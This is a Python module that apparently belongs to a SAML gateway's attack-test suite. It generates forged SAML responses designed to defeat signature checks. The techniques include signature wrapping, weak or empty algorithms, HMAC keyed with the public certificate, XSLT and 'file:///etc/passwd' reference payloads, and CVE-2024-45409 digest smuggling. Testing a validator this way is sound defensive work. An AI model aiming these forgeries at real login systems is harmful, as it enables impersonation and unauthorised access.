"""The genuine signature bent: pointed elsewhere, doubled, weakened, or made over again by somebody else."""

import base64
import hmac
from collections.abc import Callable, Iterator
from functools import partial

from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from lxml import etree

from gateway.saml import tags
from gateway.saml.attacks import tree_changes as change
from gateway.saml.attacks.loot import Attempt, Loot, assertion_in, field_of, say_mallory, sign_with
from gateway.saml.attacks.tree_changes import NS, Node, find, find_all
from gateway.saml.certificates import TrustedCertificate

_DS = tags.SIGNATURE_NS
_MORE = "http://www.w3.org/2001/04/xmldsig-more#"
_URIS = (
    "", "#", "_x", "#_nowhere", "#xpointer(/)", "#xpointer(id('x'))", "http://127.0.0.1:1/#x", "file:///etc/passwd",
    "cid:x",
)  # fmt: skip
_WEAK = (_DS + "rsa-sha1", _MORE + "rsa-md5", _DS + "dsa-sha1", "", _MORE + "ecdsa-sha256", "urn:none")
_WEAK_DIGESTS = (_DS + "sha1", _MORE + "md5", "", "urn:none")
_TRANSFORMS = {
    "XSLT": (
        f'<ds:Transform xmlns:ds="{_DS}" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet '
        'version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of '
        "select=\"document('http://127.0.0.1:1/')\"/></xsl:template></xsl:stylesheet></ds:Transform>"
    ),
    "XPath": (
        f'<ds:Transform xmlns:ds="{_DS}" Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">'
        "<ds:XPath>not(ancestor-or-self::NameID)</ds:XPath></ds:Transform>"
    ),
    "third": f'<ds:Transform xmlns:ds="{_DS}" Algorithm="{tags.EXCLUSIVE_C14N}"/>',
}
PARTS = (
    "ds:SignedInfo", "ds:SignatureValue", "ds:SignedInfo/ds:Reference", "ds:SignedInfo/ds:CanonicalizationMethod",
    "ds:SignedInfo/ds:SignatureMethod", "ds:SignedInfo/ds:Reference/ds:DigestValue",
    "ds:SignedInfo/ds:Reference/ds:DigestMethod", "ds:SignedInfo/ds:Reference/ds:Transforms",
)  # fmt: skip
_ANYTHING = "say anything under a signature that is genuine"


def bent_signatures(loot: Loot) -> Iterator[Attempt]:
    for name, alter in (*_references(), *_algorithms(), *_doubled()):
        root = loot.tree()
        signature = find_all(root, "//ds:Signature")[0]
        alter(signature)
        yield Attempt("signature", name, _ANYTHING, field_of(root))
    for name, alter in (
        ("two Signatures", change.signature_twice),
        ("one bit of the SignatureValue", partial(change.flip, "(//ds:SignatureValue)[1]")),
        ("one bit of the DigestValue", partial(change.flip, "(//ds:DigestValue)[1]")),
    ):
        root = loot.tree()
        alter(root)
        yield Attempt("signature", name, _ANYTHING, field_of(root))
    for place in ("//saml:Subject", "//saml:Conditions", "samlp:Status", "//ds:KeyInfo"):
        root = loot.tree()
        holders, signatures = find_all(root, place), find_all(root, "//ds:Signature")
        if holders:
            holders[0].append(etree.fromstring(etree.tostring(signatures[0], with_tail=False)))
            yield Attempt("signature", f"another Signature in {place}", _ANYTHING, field_of(root))


def borrowed_keys(loot: Loot, certificates: tuple[TrustedCertificate, ...]) -> Iterator[Attempt]:
    """Signed by a stranger with the provider's certificate in KeyInfo, and by what everybody knows: the certificate."""
    for signed in ("response", "assertion"):
        if not (loot.response_signed if signed == "response" else loot.assertion_signed):
            continue
        for says in ("the same", "mallory"):
            root = loot.tree()
            element = root if signed == "response" else assertion_in(root)
            if says == "mallory" and assertion_in(root) is not None:
                say_mallory(assertion_in(root))
            sign_with(loot.stranger, element)
            name = f"{signed} signed by a stranger who says {says}"
            yield Attempt("key", name, "be an identity provider of one's own", field_of(root))
    for certificate in certificates[:2]:
        for name, secret in _public_bytes(certificate).items():
            for algorithm in (_DS + "hmac-sha1", _MORE + "hmac-sha256", _MORE + "hmac-sha512"):
                root = loot.tree()
                _by_mac(find_all(root, "//ds:Signature")[0], algorithm, secret)
                label = algorithm.rpartition("#")[2]
                yield Attempt("key", f"{label} keyed with the {name}", "sign with what everybody knows", field_of(root))


def smuggled_digests(loot: Loot) -> Iterator[Attempt]:
    if not loot.assertion_signed or loot.response_signed:
        return
    root = loot.tree()
    say_mallory(assertion_in(root))
    change.smuggle_digest(root)
    yield Attempt("signature", "the right digest in the Status (CVE-2024-45409)", "sign in as anybody", field_of(root))
    root = loot.tree()
    change.foreign_signature(root)
    yield Attempt("signature", "the Signature in another namespace", "need no key at all", field_of(root))
    root = loot.tree()
    change.signature_moved_to_status(root)
    yield Attempt("signature", "the Signature in another place", "need no key at all", field_of(root))


def _references() -> Iterator[tuple[str, Callable[[Node], None]]]:
    for uri in (*_URIS, None):
        yield f"Reference to {uri!r}", partial(change.set_uri, uri)
    for name, text in _TRANSFORMS.items():
        for index in (0, 1, 2):
            yield f"{name} transform at {index}", partial(change.insert, ".//ds:Transforms", index, text)
    for holder in (".//ds:Transform[last()]", ".//ds:CanonicalizationMethod", ".//ds:DigestMethod"):
        text = f'<ds:XPath xmlns:ds="{_DS}">true()</ds:XPath>'
        yield f"XPath in {holder.rpartition(':')[2]}", partial(change.insert, holder, 0, text)
    yield "the digest of nothing", change.digest_of_nothing
    yield "no transforms", partial(change.drop, ".//ds:Transforms")


def _algorithms() -> Iterator[tuple[str, Callable[[Node], None]]]:
    for algorithm in _WEAK:
        alter = partial(change.set_attribute, ".//ds:SignatureMethod", "Algorithm", algorithm)
        yield f"signature algorithm {algorithm!r}", alter
    for algorithm in _WEAK_DIGESTS:
        yield f"digest {algorithm!r}", partial(change.set_attribute, ".//ds:DigestMethod", "Algorithm", algorithm)
    for algorithm in ("http://www.w3.org/TR/2001/REC-xml-c14n-20010315", "urn:none", ""):
        alter = partial(change.set_attribute, ".//ds:CanonicalizationMethod", "Algorithm", algorithm)
        yield f"canonicalization {algorithm!r}", alter


def _doubled() -> Iterator[tuple[str, Callable[[Node], None]]]:
    for path in PARTS:
        for before in (False, True):
            yield f"second {path} {'before' if before else 'behind'}", partial(change.double, path, before)
        yield f"no {path}", partial(change.drop, path)
    yield "Object in the Signature", partial(change.insert, ".", 2, f'<ds:Object xmlns:ds="{_DS}"/>')
    yield "an element in SignatureValue", partial(change.child_in, "ds:SignatureValue")
    yield "an element in DigestValue", partial(change.child_in, ".//ds:DigestValue")
    yield "SignatureValue that is no base64", partial(change.set_text, "ds:SignatureValue", "*")


def _public_bytes(certificate: TrustedCertificate) -> dict[str, bytes]:
    loaded = x509.load_der_x509_certificate(certificate.der)
    public = loaded.public_key()
    return {
        "certificate": certificate.der,
        "certificate's PEM": loaded.public_bytes(Encoding.PEM),
        "public key": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "public key's PEM": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "empty key": b"",
    }


def _by_mac(signature: Node, algorithm: str, secret: bytes) -> None:
    info = find(signature, "ds:SignedInfo")
    find(info, "ds:SignatureMethod").set("Algorithm", algorithm)
    data: bytes = etree.tostring(info, method="c14n", exclusive=True, with_comments=False, with_tail=False)
    mac = hmac.new(secret, data, algorithm.rpartition("-")[2]).digest()
    signature.find(f"{{{NS['ds']}}}SignatureValue").text = base64.b64encode(mac).decode()
